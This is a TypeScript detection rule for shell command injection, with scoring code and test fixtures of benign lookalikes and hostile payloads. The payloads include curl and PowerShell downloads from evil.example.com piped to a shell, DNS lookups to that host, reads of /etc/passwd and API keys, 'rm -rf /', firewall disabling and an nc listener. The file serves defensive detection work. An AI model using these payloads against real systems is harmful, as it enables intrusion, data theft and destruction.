import { type Command, fit } from '../../grammars/shell/command.ts';
import { commands } from '../../grammars/shell/commands.ts';
import { isListedWord, isTitle } from '../../grammars/shell/listed-word.ts';
import { introducer } from '../../grammars/shell/shell-introducer.ts';
import { buildTools, headings, plainTakers, use } from '../../knowledge/commands.ts';
import {
  endsSentence,
  endsText,
  isAlternative,
  isBehindAddress,
  isBehindHost,
  isImageStep,
  isListItem,
  isShownLoop,
  isTight,
  namesSecret,
} from '../../placement/command-place.ts';
import { confidence } from '../../placement/confidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { endsInValue, isAtValue, isInValue } from '../../placement/value-place.ts';
import { followsValue, wordsBefore } from '../../text/place.ts';
import type { Match, ValueRule } from '../rule.ts';

/** `; id`, `| cat /etc/passwd`, `&& whoami`, `|| ping -c 10 127.0.0.1`. */
export const chainedCommand: ValueRule = {
  id: 'cmdi.chained-command',
  score: confidence.strong,
  message: 'ends the expected command with a shell separator and starts another one',
  trigger: { literals: [[';', '|', '&']] },
  judge,
  examples: [
    { body: { 'query.host': '192.0.2.1; mv a b #' } },
    'x;set a;case $1 in a)id;;esac',
    ...['1 ; reboot;#', '. || uptime ;:', 'x;head //var/////www/app//config.php'],
    ...['x|timeout 9$* id', 'x;awk 1 a.txt', 'db1 | reboot||', 'x;nice $1 id'],
    ...['x;for a in .;do rev;done</etc/passwd', 'x;set -\\\n- ls;"$@"'],
    ...['a`echo b|2>&1 xargs env`', '`$(true;echo liat|rev) /etc/a`', 'x;$PWD/../../bin/id'],
    ...['x;((:);id)', 'x & timeout 3${b} lsof -i&', 'photos |&w=6;sleep 28;true'],
    ...["e9 |&{ nice -'n' 5 printenv API_KEY\n}", '`echo systemctl stop ssh|/bin/xargs env`'],
    ...['x && "set" -- -lvp 1337 nc;$3 $1 $2'],
    { body: { 'body.message': 'It is broken again.$(:;printenv API_KEY)' } },
    { body: { 'body.message': 'It is broken again.$(if ! :;then :;else id;fi)' } },
    ...["x;$0 -'c' 'id'", 'x;cat <<E|sh\nid\nE', "x;echo 'id' | perl", 'x;[ a = a ];id'],
    'x\ncat <<E|sh\nid\nE',
    { body: { 'body.text': 'cd .. && cat /etc/hosts' } },
    { body: { 'body.comment': 'nice; rm -rf /' } },
    { body: { 'body.message': "ls 'awk ';id;' ' && ls" } },
    { body: { 'body.message': "awk ';id;' | sort" } },
    { body: { 'body.comment': 'x ls; w"h"oami' } },
    { body: { body: { sample: 'x; cat a.txt' } } },
    { body: { 'body.message': 'cd; cat config.php' } },
    { body: { 'query.host': 'cd .. && ls' } },
    { body: { 'query.text': 'cd .. && ls' } },
    { body: { query: { text: 'cd .. && ls' } } },
    { body: { 'body.comment': 'x > /tmp/a cat a; ls' } },
    { body: { 'body.text': 'cd a; npm exec id' } },
    { body: { 'body.comment': 'make; ./configure.sh; id' } },
    ...['";id ##', '10.0.0.1; cat /etc/hosts', 'report.pdf | nslookup evil.example.com'],
    ...['"; uname -a; "', 'x && curl http://evil.example.com/a | sh', '1 || ping -n 20 127.0.0.1'],
    ...['x & net localgroup administrators', 'img.png;id', "a';w'h'oami;#"],
    ...[';dig +short evil.example.com', 'x|getent hosts evil.example.com'],
    '10.0.0.1; . /tmp/setup',
    '10.0.0.1 & netsh advfirewall set allprofiles state off',
    ...["x') ; whoami ; (", "') ; id ; ('", 'a;id;.png', 'a||whoami||b', '& waitfor /t 10 x'],
    'x & powershell iwr http://evil.example.com/a -OutFile a.exe',
    '; openssl s_client -connect 192.0.2.9:443',
    '; grep one two three four five six seven eight > /tmp/x',
    ...['FROM a\nx; rm -rf /var/www', 'FROM a\nRUN x || cat /etc/hosts'],
    ...['FROM a\nRUN x & true && cat /etc/passwd', '1 |  reboot #', 'tea | tee shirt.php'],
    ...['host | cmd', 'avatar | sh', 'x && iex -S mix run a.exs', 'tea | tee ../shirt.png'],
    '10.0.0.1 & ver',
    'It came in a box that was too large;curl http://evil.example.com/a',
    'It came in a box that was too large && ls -la /home',
    'It came too late, on 4/5 (again);curl http://evil.example.com/a|sh',
    { body: { 'query.host': 'it came too late; ls -la /home' } },
    { body: { host: `${'It came too late, and so on. '.repeat(40)}; ls -la /home` } },
    { body: { 'query.zone': 'it came too late && systemctl stop ssh' } },
    { body: { email: 'it came too late || whoami' } },
    { body: { host: '10.0.0.1 || hostname ; it came too late' } },
    ...['example.com&set', 'localhost; date', 'x; killall ab #'],
    "The lamp came in a box that was much too large, it is broken'; id; echo 'and so on",
    'He said "it is so" when he was there\'; uname -a #',
    'The price was \\$( or so I thought "; id; echo "and more',
    "The folder is $(pwd) or so, I was told by him'; id; echo 'and more",
  ],
  lookalikes: [
    "Pay $0; $0 'now' and $5 later | $0 -$9 | ; echo of the hills | $0 a day",
    'squats; repeat 1 time',
    ...[
      'buy milk; date :#',
      'read; view //www.example.com/a',
      'x; cat //TODO',
      'It is so; time;:)',
    ],
    ...['a; (b); id', 'call f() (see below); id', 'tea | qty=2; sort by price'],
    ...[
      'timeout 3${n} times; time 5$x',
      '&& "set" up; then $5',
      'see; while rev</b>; do x;done</b>',
    ],
    ...['awkward; awk 2 of them', 'salt & date &', 'see $(python)', 'work; done > 5 items'],
    ...[
      '||Language||perl||',
      ';perl',
      'a | perl ||',
      'a | top ||',
      '|db1|uptime||',
      'x;nice "" id',
      'x; cat a;fi</p>',
      'x; head //comment/ here',
      'timeout "" or nice $2 more; time $4',
    ],
    ...['Run this:\npython3 <<EOF\nprint(1)\nEOF', 'It was a trap; trap 2 of them at EXIT 5'],
    'Flowers; for Anna (mother) date',
    'the keys; (left) <arrow> and (right) <arrow>',
    'Copy & paste the `test-case.json` into the project.',
    { body: { 'body.text': 'cd .. && ls' } },
    { body: { body: [{ type: 'csp-violation', body: { sample: 'x; cat a.txt' } }] } },
    { body: { ops: [{ insert: 'cd .. && ls' }] } },
    { body: { 'body.message': 'Uruchom cd .. && ls' } },
    { body: { 'body.message': "awk '{print $2}' a.txt | sort | uniq -c" } },
    { body: { 'body.message': "du -sh * | cut -d' ' -f1 | sort -h" } },
    { body: { 'query.desc': 'git pull; npm install' } },
    { body: { 'body.comment': 'make clean && ./configure && make' } },
    { body: { 'body.comment': 'tar xzf a.tgz && cd a && make && sudo make install' } },
    { body: { 'body.description': 'set -e; cd /app; git pull; npm ci; pm2 restart all' } },
    'salt & pepper; find more in our shop',
    'Echo Park, cat cafés, ping pong & bash parties',
    ...['either this | that; who knows?', '| cat | curl |\n|---|---|\n| id | name |'],
    'Mozilla/5.0 (X11; U; Linux i686; id; rv:1.9.2) Gecko/20100115',
    ...['a=1; path=/; id=5; sort=asc', 'wash, cut & sort; sleep 8 hours'],
    ...['?type=cat&id=5&sort=name', '(ls|dir)', 'for i in 1 2 3; do echo $i; done'],
    ...['8cx4{7&v^Ol"@PBL', 'i4[A&cP>2I!B7|eF', 'QiMrH".csxx|LS', '<p>one & more</p>'],
    'dig it; the +short list | getent hosts no party',
    'first; . then second',
    'In the menu; where the headings are missing from a page, press F9.',
    ...['tsc && npm run bundle', '$sum = 5 + 6; echo $sum;', 'cmd & powershell tips for beginners'],
    'tls; openssl and friends',
    'It is this one:\n\n```\nFROM node:22\nRUN npm ci && rm -rf /var/cache/apk/*\n```\n\nIs it fine?',
    '# Try\nwhile true; do sed -e s/a/b/ list.txt; done',
    '{\n"test":"standard && npm run a && npm run b","b":"airtap -- test/*.js"}',
    'tea & date #foodie',
    "It was the dogs'; time to find another one, isn't it?",
    { body: { code: '#!/bin/sh\nDIR="$(cd "$(dirname "$0")" && pwd)"\nls "$DIR"\n' } },
    ...['buy milk; date #1', 'tea | tee shirt.png', 'golf; tee time.txt'],
    ...['mix deps.get && iex -S mix', 'example.com | help', 'Release 2.0; set'],
    'It works for me after apt update && curl http://www.example.com/a',
    'The network is down; ping -c 3 192.0.2.1',
    { body: { 'query.label': 'The network is down; ping -c 3 192.0.2.1' } },
    { body: { 'query.category': 'name of the shop; id' } },
    { body: { image: 'The dog, the cat & the mouse; find more of them' } },
    { body: { 'query.fields': 'sku; id; name of the shop' } },
    { body: { 'query.columns': 'id|hostname|uptime|status' } },
    { body: { 'query.name': 'Tom && Jerry; the cat & the mouse' } },
    { body: { filename: 'apples and pears; tops & tails' } },
    'To see it, open a terminal && run curl http://www.example.com/a there',
    '10.0.0.1; find out more about it here',
    'In my script; for each file I do this, then sort the rest',
    '&utm_term= "Fish" -used site:example.com',
    'FROM node:22\nRUN apk add curl && rm -rf /var/cache/apk/*\nCMD ["node","a.js"]',
  ],
};

function judge(subject: Subject): Match | undefined {
  const text = subject.text;
  if (text.startsWith('Mozilla/') || text.startsWith('Opera/')) return judgeUserAgent(subject);
  const reading = subject.tokens(commands);
  if (!reading.complete) subject.incomplete('tokens');
  let best: Match | undefined;
  for (const command of reading.list) {
    if (!isChained(command)) continue;
    let score = scoreOf(subject, command);
    if (score > confidence.hint && isImageStep(text, command.head)) score = confidence.hint;
    if (score > (best?.score ?? 0)) best = { start: command.head.start, end: command.end, score };
    if (score >= confidence.certain) break;
  }
  return best;
}

/** The comment of a user agent is a list with semicolons whose items may be `id` or `ls`. */
function judgeUserAgent(subject: Subject): Match | undefined {
  for (const command of subject.tokens(commands).list) {
    if (!isChained(command)) continue;
    if (command.fit === fit.full) return { start: command.head.start, end: command.end };
  }
  return undefined;
}

function isChained({ head, chain }: Command): boolean {
  // The lines of a script.
  if (head.introducer === introducer.lineBreak) return chain < head.start;
  return head.introducer >= introducer.semicolon && head.introducer <= introducer.or;
}

function scoreOf(subject: Subject, command: Command): number {
  const { text, where } = subject;
  const { head } = command;
  if (isAlternative(text, command)) return confidence.trace;
  if (isShownLoop(text, head)) return confidence.hint;
  if (command.name === 'echo' && program.test(text)) return confidence.hint;
  if (command.fit === fit.none) return 0;
  const isValue = isPlaced(subject, command);
  switch (command.fit) {
    case fit.full:
      return fullScore(subject, command, isValue);
    case fit.sureAlone:
      return sureScore(subject, command, isValue);
    case fit.alone:
      // Names of members are no lists, whatever is between their semicolons.
      if (where === 'name' && isValue) return confidence.likely;
      return aloneScore(subject, command, isValue && !isListItem(text, command), confidence.strong);
    case fit.aloneWord:
      return aloneWordScore(text, command, isValue);
    case fit.weak:
      return weakScore(text, command, isValue);
    default:
      return 0;
  }
}

/**
 * In a script that stands beside a value, or beside one itself; or behind the quote that ends the
 * literal, which may hold any sentence, where another goes on with it or a comment ends the line.
 */
function isPlaced(subject: Subject, { chain, head, closes, fit: found }: Command): boolean {
  const { text } = subject;
  // In a sentence a short word behind a blank is one of a list.
  const isWhole = found === fit.full || found === fit.sureAlone || isTight(text, head);
  const isHere = isWhole ? isAtValue(subject, head.start) : followsValue(text, head.start);
  if (chain < head.start || isHere) return true;
  return closes && found >= fit.alone && closing.test(text.slice(head.start - 4, head.start));
}

const closing = /['"]\s{0,3}$/;
const stepCharsMax = 400;

/** `$x = 5; echo $x;`: PHP that is shown. */
const program = /^\s{0,4}\$\w{1,40} {0,2}=[^=][^;|&]{0,80}; {0,2}echo \$\w{1,40} {0,2};?\s{0,4}$/;

/**
 * Any text is fine for `echo`; one word will do for `rm`, and for `del` when a comment
 * follows.
 */
function isPlausible(text: string, command: Command): boolean {
  if (text.slice(command.end, command.end + 2).includes('#')) return true;
  if (wordsBefore(text, command.head.start) > 1) return false;
  return (command.uses & use.text) !== 0 || plainTakers.has(command.name);
}

function fullScore(subject: Subject, command: Command, isValue: boolean): number {
  const { text } = subject;
  if (isValue) {
    if (isSaid(text, command)) return confidence.trace;
    if (command.hidden || command.hidesArgument || command.structured) return confidence.certain;
    if (isBuildStep(command) || isNamed(text, command)) return confidence.hint;
    if (mayBeProse(subject, command)) return confidence.hint;
    return command.isSure ? confidence.certain : confidence.strong;
  }
  if (command.hidden) return confidence.certain;
  if (namesSecret(text, command.head.start, command.end)) return confidence.strong;
  if (command.isSure && endsSentence(text, command.head, command.end)) return confidence.likely;
  return (command.uses & use.english) !== 0 ? confidence.trace : confidence.hint;
}

/** Words stand in front, and the command is one of them in English or takes them. */
function mayBeProse(subject: Subject, { chain, isSure, uses }: Command): boolean {
  if (isSure || (uses & (use.english | use.subcommand)) === 0) return false;
  return wordsBefore(subject.text, chain) > 1 && !isInValue(subject, chain);
}

/** ``Copy & paste the `b` into it``: words of a sentence; code in its marks is judged by itself. */
function isSaid(text: string, { head, hidden, uses }: Command): boolean {
  if (hidden || head.introducer !== introducer.ampersand || (uses & use.english) === 0)
    return false;
  return (
    said.test(text.slice(head.start - 4, head.nameEnd + 8)) &&
    !further.test(text.slice(head.nameEnd, head.nameEnd + stepCharsMax))
  );
}

const further = /[;|&$<>()\n]/;
const said = /^\p{L}{3} & \w{2,12} (?:the|this|that|these|it|a|an|your|my) /u;

/**
 * `tea | tee shirt.png`: what goes through the pipe is written to a picture or a document, which
 * nothing runs. `iex -S mix`: the shell of Elixir. `export LANG` says and changes nothing.
 */
function isNamed(text: string, { head, name, end }: Command): boolean {
  const given = text.slice(head.nameEnd, end);
  if (name === 'iex') return elixir.test(given.trimEnd());
  if (name === 'export') return named.test(given) && lineEnd.test(text.slice(end, end + 1));
  return name === 'tee' && document.test(given) && isListedWord(text, head.nameStart);
}

/** Names alone: with an option or a value it is none of these. */
const named = /^(?:[ \t]{1,4}[A-Z_][A-Z0-9_]{0,40}){1,6}[ \t]{0,4}$/;
const lineEnd = /^\n?$/;
const elixir = /^ -S mix(?: [\w.]{1,30})?$/;
const document =
  /^ [\w-]{1,40}\.(?:png|jpe?g|gif|webp|pdf|docx?|xlsx?|pptx?|odt|txt|csv|zip|mp[34])$/i;

/** Names of programs, too. What is piped into the shells of Unix may be a file of any name. */
const windowsShells: ReadonlySet<string> = new Set(['cmd', 'powershell', 'pwsh']);

/** `tsc && npm run b`: steps of a project's own script. */
function isBuildStep({ head, name, uses, isSure }: Command): boolean {
  return isDouble(head) && !isSure && (uses & use.subcommand) !== 0 && buildTools.has(name);
}

function sureScore(subject: Subject, command: Command, isValue: boolean): number {
  const { text } = subject;
  const { head } = command;
  // `Windows | PowerShell`
  if (windowsShells.has(command.name) && isTitle(text, head.start)) return confidence.hint;
  if (!isValue && endsSentence(text, head, command.end)) return confidence.likely;
  return aloneScore(subject, command, isValue, confidence.certain);
}

function weakScore(text: string, command: Command, isValue: boolean): number {
  if (isValue && command.structured) return confidence.strong;
  if (isBehindAddress(text, command.head))
    return behindStep.test(text.slice(command.end - 1)) ? confidence.likely : confidence.hint;
  if (isValue && isPlausible(text, command) && endsText(text, command.end))
    return confidence.likely;
  return (command.uses & use.english) !== 0 ? 0 : confidence.trace;
}

/** Nothing, a comment. */
const behindStep = /^.\s{0,40}(?:$|(?<=\s)#)/;

/** `;date` as the whole value; behind something else the word may be one of a list. */
function aloneWordScore(text: string, command: Command, isValue: boolean): number {
  const { head } = command;
  if (isValue && command.structured) return confidence.strong;
  if (!isValue || text.length - command.end > 16 || !endsText(text, command.end))
    return confidence.trace;
  if (isBehindHost(text, head)) return confidence.likely;
  // A comment without a word hides what the application has written behind the value, and so does `||`.
  const rest = text.slice(command.end - 1);
  // `|db1|uptime||` is a row of a table.
  const isOpen =
    head.introducer !== introducer.or && !headings.has(command.name) && !text.startsWith('|');
  if (openComment.test(rest) || (isOpen && openOr.test(rest))) return confidence.likely;
  const isFirst = head.start < 4 && startsText.test(text.slice(0, head.start));
  if (isFirst && (isTight(text, head) || !headings.has(command.name))) return confidence.likely;
  return isTight(text, head) ? confidence.hint : confidence.trace;
}

const openComment = /^\S?[\s;&]{0,16}(?:(?<=[\s;&])#|(?<=;)\s?:)\s{0,4}$/;
const openOr = /^\S?\s{0,4}\|\|\s{0,4}$/;
const startsText = /^['")]{0,3}$/;

function aloneScore(subject: Subject, command: Command, isValue: boolean, score: number): number {
  const { text } = subject;
  if ((command.hidden || command.structured) && isValue) return confidence.certain;
  const ends = endsText(text, command.end);
  if (ends && isValue) return score;
  const isSure = command.fit === fit.sureAlone;
  if (isValue && (isSure || isDouble(command.head)) && endsInValue(subject, command.end))
    return score;
  if (isSure && isValue && isFramed(text, command)) return confidence.likely;
  return ends || (command.hidden && isTight(text, command.head))
    ? confidence.hint
    : confidence.trace;
}

function isDouble({ introducer: by }: Command['head']): boolean {
  return by === introducer.and || by === introducer.or;
}

/** `a||whoami||b`, `a && whoami && b`: nothing but another word behind the second mark. */
function isFramed(text: string, { head, end }: Command): boolean {
  return isDouble(head) && frameEnd.test(text.slice(end, end + 24));
}

const frameEnd = /^ ?(?:\|\||&&) ?\w{1,12}$/;
